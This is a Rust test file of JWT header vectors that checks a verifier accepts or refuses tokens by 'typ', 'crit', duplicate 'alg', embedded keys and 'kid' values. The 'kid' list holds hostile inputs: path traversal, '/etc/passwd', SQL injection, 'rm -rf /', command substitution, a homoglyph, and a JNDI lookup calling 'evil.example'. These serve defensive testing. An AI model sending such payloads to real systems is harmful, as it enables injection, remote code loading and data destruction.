//! Vectors: what a header says beside the algorithm.

use serde_json::json;

use super::world::{Vector, World, accepted, base64, refused};

pub(super) fn vectors(world: &World) -> Vec<Vector> {
    let hs = |members: &str| world.under(&format!(r#"{{"alg":"HS256",{members}}}"#));
    let ec = |kid: &str| {
        let header = json!({ "alg": "ES256", "kid": kid });
        world.es256(&header.to_string(), &world.good())
    };
    let key = json!({ "kty": "oct", "k": base64("an attacker's own key, 32 bytes.") });
    let mut vectors = vec![
        accepted("typ JWT", hs(r#""typ":"JWT""#)),
        accepted("typ jwt", hs(r#""typ":"jwt""#)),
        accepted("typ at+jwt", hs(r#""typ":"at+jwt""#)),
        accepted("typ application/at+jwt", hs(r#""typ":"application/at+jwt""#)),
        refused("typ of an ID token hint", hs(r#""typ":"logout+jwt""#)),
        refused("typ of a proof of possession", hs(r#""typ":"dpop+jwt""#)),
        refused("typ empty", hs(r#""typ":"""#)),
        refused("typ a number", hs(r#""typ":1"#)),
        refused("crit unknown", hs(r#""crit":["b64"],"b64":false"#)),
        refused("crit known", hs(r#""crit":["exp"],"exp":1"#)),
        refused("crit empty", hs(r#""crit":[]"#)),
        refused("crit null", hs(r#""crit":null"#)),
        refused("b64 false without crit", hs(r#""b64":false"#)),
        refused("b64 true", hs(r#""b64":true"#)),
        refused("compressed", hs(r#""zip":"DEF""#)),
        refused("encrypted", hs(r#""enc":"A256GCM""#)),
        refused("cty JWT", hs(r#""cty":"JWT""#)),
        accepted("cty of something else", hs(r#""cty":"json""#)),
        accepted("jku is not followed", hs(r#""jku":"http://127.0.0.1:1/keys""#)),
        accepted("x5u is not followed", hs(r#""x5u":"http://127.0.0.1:1/cert""#)),
        accepted("x5c is not looked at", hs(r#""x5c":["MIIB"]"#)),
        accepted("jwk is not looked at", hs(&format!(r#""jwk":{key}"#))),
        refused("signed with the key that it brings", {
            let header = format!(r#"{{"alg":"HS256","jwk":{key}}}"#);
            crate::support::signed(&header, &world.good(), b"an attacker's own key, 32 bytes.")
        }),
        accepted("an unknown member", hs(r#""x":{"y":[1]}"#)),
        refused("alg twice, the second none", world.under(r#"{"alg":"HS256","alg":"none"}"#)),
        refused("alg twice, the first none", world.under(r#"{"alg":"none","alg":"HS256"}"#)),
        refused("alg twice, once escaped", world.under(r#"{"alg":"HS256","\u0061lg":"none"}"#)),
        refused("kid twice", hs(r#""kid":"a","kid":"b""#)),
        refused("an unknown member twice", hs(r#""x":1,"x":2"#)),
        refused("a member twice within another", hs(r#""x":{"y":1,"y":2}"#)),
        // The secret is for tokens with whatever key name.
        accepted("kid that no key has", hs(r#""kid":"any""#)),
        accepted("kid of 200 bytes", hs(&format!(r#""kid":"{}""#, "k".repeat(200)))),
        refused("kid of 201 bytes", hs(&format!(r#""kid":"{}""#, "k".repeat(201)))),
        refused("kid of 5 kB", hs(&format!(r#""kid":"{}""#, "k".repeat(5_000)))),
        refused("kid of 10 kB", hs(&format!(r#""kid":"{}""#, "k".repeat(10_000)))),
        refused("kid a list", hs(r#""kid":["es256"]"#)),
        refused("kid a number", hs(r#""kid":256"#)),
        accepted("kid of the key", ec("es256")),
    ];
    // Where the key has a name, only that name finds it.
    for kid in [
        "",
        "ES256",
        "es256 ",
        "es256\0",
        "es256\n",
        "es",
        "eddsa",
        "../es256",
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "https://evil.example/keys#es256",
        "' OR '1'='1",
        "es256' UNION SELECT 'x",
        "es256; rm -rf /",
        "$(cat /dev/null)",
        "${jndi:ldap://evil.example/x}",
        "*",
        "es256,eddsa",
        "еs256",
    ] {
        vectors.push(refused(format!("kid {kid:?}"), ec(kid)));
    }
    vectors.push(refused("no kid where the key has one", {
        world.es256(r#"{"alg":"ES256"}"#, &world.good())
    }));
    vectors
}
